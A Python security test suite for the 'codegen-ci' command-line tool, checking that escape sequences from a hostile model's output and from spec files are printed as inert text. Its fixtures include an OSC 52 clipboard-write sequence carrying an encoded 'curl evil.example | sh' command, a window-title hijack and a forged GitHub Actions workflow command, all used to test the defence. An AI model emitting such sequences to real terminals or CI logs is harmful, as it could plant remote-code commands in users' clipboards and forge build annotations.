"""What `codegen-ci` prints carries no control from outside, through the CLI as a user runs
it (a separate process, real git, real pytest, the scripted model over HTTP): a hostile
model's tool-call arguments with OSC 0 (window title) and OSC 52 (clipboard write) sequences
are shown as `[U+001B]...` in the progress lines, piped and under a pseudo-terminal (rich),
and so are the same sequences in a spec's task (dry-run output) and in a path named in an
error message; under GitHub Actions no line of that output can be a workflow command. The
controls: the raw sequences did reach the tool (the transcript, the prompt file), and printed
as they are, rich passes them to the terminal."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from sample_repo import QUICK_GATE, SampleRepo, fixing_script

from codegen_ci.testing.scripted_model import Reply, ScriptedModelServer

TITLE = "\x1b]0;PWNED-TITLE\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x1b\\"  # "curl evil.example | sh"
HOSTILE_ARGS = '{"path": "src/semver/version.py", "note": "' + TITLE + CLIPBOARD + '"}'
SHOWN_TITLE = b"[U+001B]]0;PWNED-TITLE[U+0007]"
COMMAND = "::warning title=pwned::a forged annotation"  # read by the Actions runner


def cli_env(model: ScriptedModelServer) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != "CI"}  # rich only outside CI
    env.update(
        OPENAI_BASE_URL=model.base_url,
        TERM="xterm-256color",
        COLUMNS="200",
        OPENAI_API_KEY="sk-test-not-a-real-key-000000000000",
    )
    return env


def run_piped(
    args: list[str], env: dict[str, str], cwd: Path
) -> subprocess.CompletedProcess[bytes]:
    argv = [sys.executable, "-m", "codegen_ci", *args]
    return subprocess.run(argv, env=env, cwd=cwd, capture_output=True, timeout=300, check=False)


def run_in_pty(argv: list[str], env: dict[str, str], cwd: Path) -> tuple[int, bytes]:
    """Run `argv` with stdout and stderr on a pseudo-terminal; what the terminal got."""
    master, slave = os.openpty()
    proc = subprocess.Popen(
        argv, env=env, cwd=cwd, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave
    )
    os.close(slave)
    chunks: list[bytes] = []

    def drain() -> None:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                return
            if not chunk:
                return
            chunks.append(chunk)

    reader = threading.Thread(target=drain)
    reader.start()
    code = proc.wait(timeout=300)
    reader.join(timeout=30)
    os.close(master)
    return code, b"".join(chunks)


def hostile_run(sample_repo: SampleRepo, model: ScriptedModelServer) -> list[str]:
    # what is printed is the subject: the proof and coverage runs after the passing round (the
    # security tests' default, conftest.py) print no model text, and run no hostile code here;
    # nor does the test suite: the gate is a grep of the fixed line (no pytest starts)
    sample_repo.proof = False
    model.add(Reply(tool_calls=[("read_file", HOSTILE_ARGS)]), *fixing_script())
    out = sample_repo.tmp / "out"
    return [
        "run",
        str(sample_repo.write_spec(validation=QUICK_GATE)),
        "--repo",
        str(sample_repo.path),
        "--output-dir",
        str(out),
    ]


def test_piped_progress_shows_a_models_escape_sequences_as_text(
    sample_repo: SampleRepo, model_server: ScriptedModelServer
) -> None:
    args = hostile_run(sample_repo, model_server)

    result = run_piped(args, cli_env(model_server), sample_repo.tmp)

    assert result.returncode == 0, result.stderr.decode()
    printed = result.stdout + result.stderr
    assert b"\x1b" not in printed and b"\x07" not in printed
    assert SHOWN_TITLE in result.stderr and b"[U+001B]]52;c;" in result.stderr
    # control: the model's raw sequences reached the tool (its transcript keeps them)
    transcript = (sample_repo.tmp / "out" / "transcript.jsonl").read_text()
    assert "\\u001b]52;c;" in transcript or CLIPBOARD in transcript


def test_under_a_terminal_rich_progress_shows_them_as_text_too(
    sample_repo: SampleRepo, model_server: ScriptedModelServer
) -> None:
    args = hostile_run(sample_repo, model_server)
    argv = [sys.executable, "-m", "codegen_ci", *args]

    code, screen = run_in_pty(argv, cli_env(model_server), sample_repo.tmp)

    assert code == 0, screen.decode(errors="replace")
    assert b"\x1b[" in screen  # rich drew its live status: this was the interactive path
    assert b"\x1b]" not in screen and b"\x07" not in screen  # no OSC at all, no BEL
    assert SHOWN_TITLE in screen.replace(b"\r\n", b"\n")


def test_control_rich_passes_raw_sequences_to_a_terminal(
    sample_repo: SampleRepo, model_server: ScriptedModelServer
) -> None:
    """Positive control: the same text given to rich as it is (markup escaped, as progress
    did) reaches the terminal as live OSC 0 and OSC 52 sequences."""
    script = (
        "import sys; from rich.console import Console; from rich.markup import escape; "
        "Console(stderr=True, highlight=False).print('tool ' + escape(sys.argv[1]))"
    )
    argv = [sys.executable, "-c", script, HOSTILE_ARGS]

    code, screen = run_in_pty(argv, cli_env(model_server), sample_repo.tmp)

    assert code == 0, screen
    assert b"\x1b]0;PWNED-TITLE" in screen and b"\x1b]52;c;" in screen


@pytest.mark.parametrize("where", ["dry-run output", "error message"])
def test_dry_run_output_and_error_messages_show_them_as_text(
    sample_repo: SampleRepo, model_server: ScriptedModelServer, where: str
) -> None:
    out = sample_repo.tmp / "out"
    if where == "dry-run output":
        task = f"Reset the patch {TITLE}{CLIPBOARD} in bump_minor.\n{COMMAND}"
        # the task's text is what is printed; the pre-flight's gate is a grep (no pytest)
        spec = sample_repo.write_spec(task=task, validation=QUICK_GATE)
        args = [
            "run",
            str(spec),
            "--dry-run",
            "--repo",
            str(sample_repo.path),
            "--output-dir",
            str(out),
        ]
    else:
        args = ["run", str(sample_repo.tmp / f"spec{TITLE}.yaml"), "--repo", str(sample_repo.path)]

    env = {**cli_env(model_server), "GITHUB_ACTIONS": "true"}  # as in a nightly workflow
    result = run_piped(args, env, sample_repo.tmp)

    printed = result.stdout + result.stderr
    assert result.returncode in (0, 1, 2), printed.decode()
    assert b"\x1b" not in printed and b"\x07" not in printed
    assert SHOWN_TITLE in printed
    # no line of the output is a workflow command for the Actions runner
    assert not [line for line in printed.splitlines() if line.lstrip().startswith(b"::")]
    if where == "dry-run output":  # control: the prompt file has the sequences as they are
        prompt = (out / "first-prompt.md").read_text()
        assert TITLE in prompt and f"\n{COMMAND}" in prompt
        assert b"[U+003A]:warning title=pwned::" in result.stdout
